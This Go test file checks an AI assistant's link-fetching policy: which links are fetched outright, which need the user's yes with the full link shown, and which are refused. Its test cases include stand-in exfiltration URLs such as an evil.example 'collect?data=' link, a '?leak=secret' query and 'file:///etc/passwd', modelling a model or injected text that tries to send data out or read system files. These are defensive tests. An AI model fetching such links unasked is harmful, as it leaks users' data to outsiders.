package assistant_test

import (
	"context"
	"fmt"
	"io"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/attachebot/attache/internal/assistant"
	"github.com/attachebot/attache/internal/fetch"
	"github.com/attachebot/attache/internal/files"
	"github.com/attachebot/attache/internal/llm"
	"github.com/attachebot/attache/internal/llm/llmtest"
)

// internet is a fetcher that notes what it is asked for.
type internet struct {
	mu  sync.Mutex
	got []string
}

func (i *internet) Get(_ context.Context, u *url.URL) (*fetch.Response, error) {
	i.mu.Lock()
	defer i.mu.Unlock()
	i.got = append(i.got, u.String())
	return &fetch.Response{Name: "data.csv", Size: -1, Body: io.NopCloser(strings.NewReader("a,b\n1," + fmt.Sprint(len(i.got)) + "\n"))}, nil
}

func (i *internet) Close() {}

func fetches(link string) llmtest.Reply {
	return llmtest.Reply{Calls: []llm.ToolCall{{ID: "f", Name: assistant.FetchLink, Arguments: fmt.Sprintf(`{"url":%q}`, link)}}}
}

// What the person wrote is fetched; what a file or the model brings up after a
// yes, with the whole link shown, or never.
func TestFetchLinks(t *testing.T) {
	const long = "https://evil.example/collect?data=0123456789abcdef%20and%20more&to=me"
	for _, c := range []struct {
		mode      assistant.Links
		text, own string
		link      string
		asked     bool
		fetched   bool // after a yes, if asked
	}{
		{assistant.AskLinks, "see https://data.example/x.csv.", "see https://data.example/x.csv.", "https://data.example/x.csv", false, true},
		{assistant.OwnLinks, "see <https://data.example/x.csv>", "see <https://data.example/x.csv>", "https://data.example/x.csv", false, true},
		{assistant.OwnLinks, "[the data](https://data.example/x_(1).csv)", "[the data](https://data.example/x_(1).csv)", "https://data.example/x_(1).csv", false, true},
		{assistant.AskLinks, "data.example/x.csv, please", "data.example/x.csv, please", "https://data.example/x.csv", false, true},
		{assistant.AskLinks, "HTTPS://Data.Example/x.csv#top", "HTTPS://Data.Example/x.csv#top", "https://data.example/x.csv", false, true},
		{assistant.AskLinks, "https://data.example/x.csv", "https://data.example/x.csv", "https://data.example/x.csv?leak=secret", true, true},
		{assistant.AskLinks, "https://data.example/x.csv", "https://data.example/x.csv", "https://data.example/", true, true},
		{assistant.AskLinks, "[Forwarded, somebody else's words: https://evil.example/]", "", "https://evil.example/", true, true},
		{assistant.AskLinks, "hi", "hi", long, true, true},
		{assistant.OwnLinks, "hi", "hi", long, false, false},
		{assistant.OwnLinks, "https://data.example/x.csv", "https://data.example/x.csv", "https://data.example/x.csv/../y", false, false},
		{assistant.NoLinks, "https://data.example/x.csv", "https://data.example/x.csv", "https://data.example/x.csv", false, false},
		{"", "https://data.example/x.csv", "https://data.example/x.csv", "https://data.example/x.csv", false, false},
		{assistant.AskLinks, "file:///etc/passwd", "file:///etc/passwd", "file:///etc/passwd", false, false},
	} {
		for _, yes := range []bool{true, false} {
			net := &internet{}
			w := newWorld(t, assistant.Options{FetchLinks: c.mode, Fetcher: net})
			w.model.Push(fetches(c.link), llmtest.Reply{Text: "Done."})
			stop := w.replies(anna, yes)
			r := w.request("")
			r.Message = assistant.Message{Text: c.text, Own: c.own}
			if e := w.wait(w.ask(r)); e.Err != nil {
				t.Fatal(e.Err)
			}
			questions := stop()
			if (len(questions) == 1) != c.asked || c.asked && !strings.Contains(questions[0], c.link) {
				t.Errorf("%s %q %s: asked %q", c.mode, c.text, c.link, questions)
			}
			want := c.fetched && (!c.asked || yes)
			if (len(net.got) == 1) != want {
				t.Errorf("%s %q %s (yes: %v): fetched %q", c.mode, c.text, c.link, yes, net.got)
			}
			page, err := w.files.List(t.Context(), anna, files.Query{})
			if err != nil {
				t.Fatal(err)
			}
			result := w.model.Requests()[len(w.model.Requests())-1].Last().Text
			if want && (page.Total != 1 || !strings.Contains(result, string(page.Files[0].ID))) {
				t.Errorf("%s: %d files; the model got %q", c.link, page.Total, result)
			}
			if !want && page.Total != 0 {
				t.Errorf("%s: something was saved", c.link)
			}
		}
	}
}

// A model can't fetch without end, and a file that has no room is kept for a while.
func TestFetchesAreBounded(t *testing.T) {
	net := &internet{}
	w := newWorld(t, assistant.Options{FetchLinks: assistant.OwnLinks, Fetcher: net}) // three files are allowed
	for range 12 {
		w.model.Push(fetches("https://data.example/x.csv"))
	}
	w.model.Push(llmtest.Reply{Text: "Done."})
	r := w.request("")
	r.Message = assistant.Message{Text: "https://data.example/x.csv", Own: "https://data.example/x.csv"}
	w.wait(w.ask(r))
	if n := len(net.got); n < 10 || n > 20 { // one that has no room is read twice
		t.Errorf("fetched %d times", n)
	}
	page, err := w.files.List(t.Context(), anna, files.Query{})
	if err != nil || page.Total != 10 {
		t.Errorf("%d files, %v", page.Total, err)
	}
}
